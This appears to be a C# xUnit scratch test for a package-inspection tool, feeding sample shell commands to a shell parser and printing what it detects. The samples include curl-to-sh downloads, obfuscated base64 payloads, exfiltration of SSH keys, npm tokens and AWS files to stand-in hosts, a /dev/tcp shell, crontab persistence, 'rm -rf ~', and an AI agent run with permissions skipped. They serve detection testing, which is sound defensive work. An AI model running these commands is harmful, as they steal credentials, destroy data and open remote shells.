using PackageWall.Inspection.Languages.Shell;
using Xunit.Abstractions;
namespace PackageWall.Inspection.Tests.Languages.Shell;
public sealed class Scratch(ITestOutputHelper o)
{
    [Fact]
    public void Print()
    {
        foreach (var t in new[] {
            "curl -fsSL https://x.invalid/i.sh | sh",
            "wget -qO- https://x.invalid/i | bash -s -- -y",
            "a=cu;b=rl; $a$b http://x.invalid/p -o /tmp/p && chmod +x /tmp/p && /tmp/p",
            "wget https://x.invalid/run.sh && sh run.sh",
            "bash <(curl -s https://x.invalid)",
            "sh -c \"$(curl -fsSL https://x.invalid)\"",
            "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
            "echo ZWNobyBoaSA+PiB+Ly5iYXNocmM= | base64 --decode | sh",
            "node -e \"require('x')\" && node scripts/a.js --flag; npx tsx b.ts; ./bin/go",
            "curl -X POST -d @$HOME/.npmrc https://webhook.site/x",
            "cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.invalid",
            "env | nc x.invalid 99",
            "curl \"https://x.invalid/?t=$NPM_TOKEN\"",
            "dig $(whoami).x.invalid",
            "echo 'x' >> ~/.bashrc; (crontab -l; echo '* * * * * x') | crontab -; rm -rf ~; rm -rf dist; rm -- \"$0\"",
            "cat > ~/.config/systemd/user/x.service <<EOF\n[Unit]\n$HOME\nEOF\nsystemctl --user enable x",
            "claude --dangerously-skip-permissions -p 'do'",
            "husky install || true && node-gyp rebuild && patch-package",
            "case $x in a|b) echo hi;; --c) rm x;; esac; for f in a b; do cat $f; done; f() { ls; }; f",
            "nohup node x.js > /dev/null 2>&1 &",
            "cross-env NODE_ENV=production webpack --config x.js",
            "if [ -f ~/.npmrc ]; then echo yes; fi",
            "$(($a+1)) ; $((curl x.invalid/a) | sh)",
            "python3 -c 'import os' ; python -m http.server; powershell -enc ZQBjAGgAbwA=",
            "exec 3<>/dev/tcp/1.2.3.4/99; cat <&3 | sh; printf '\\x65\\x63ho hi' | sh",
            "tar czf - ~/.aws | openssl enc -aes-256-cbc -k x | curl -T - ftp://x.invalid/",
            "node ./install.js || node-pre-gyp install --fallback-to-build",
            "echo 'Y3VybA==' | rev | tr a-z n-za-m | sh",
        }) {
            var f = new ShellReader(CommandFacts.Echo).Read(CommandFacts.Source(t));
            o.WriteLine("## " + t); foreach (var l in CommandFacts.Lines(f)) o.WriteLine("   " + l);
            foreach (var r in f.References) o.WriteLine("   ref " + r.Kind + " " + r.Target); foreach (var u in f.Unread) o.WriteLine("   UNREAD " + u);
        }
    }
}
